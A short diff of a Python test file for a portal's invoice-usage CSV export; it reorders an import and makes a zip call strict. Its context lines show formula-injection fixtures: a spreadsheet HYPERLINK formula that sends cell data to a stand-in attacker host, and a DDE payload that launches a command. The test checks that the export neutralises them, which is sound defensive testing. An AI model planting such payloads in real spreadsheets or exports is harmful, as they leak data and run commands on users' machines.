@@ -20,8 +20,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 @pytest.mark.parametrize("raw", ["²", "1²", "٣", "99999999999999999999999", "-1", "0"])
 def test_a_user_id_that_is_not_ascii_digits_is_not_found(seeded, raw):
-    from tests.support.test_handlers import make_state
     from opkalla_portal.state.users import UserEditState
+    from tests.support.test_handlers import make_state
 
     dana = make_state(UserEditState, DANA, "/manage-users/user")._identity()
     with pytest.raises(user_service.UserNotFound):
@@ -62,7 +62,7 @@ def _row(**changes) -> UsageRow:
 
 def test_invoice_usage_csv_neutralises_formulas_and_keeps_numbers():
     [header, row] = _cells(usage_csv([_row()]))
-    cells = dict(zip(header, row))
+    cells = dict(zip(header, row, strict=True))
     assert [v for v in row if v[:1] in "=+-@" and not v.startswith("-1.00")] == []
     assert f"'{FORMULA}" in row and "'@SUM(1+1)" in row and "'+cmd|' /C calc'!A0" in row
     assert "-1.00" in row  # a credit is still a number the sheet can sum
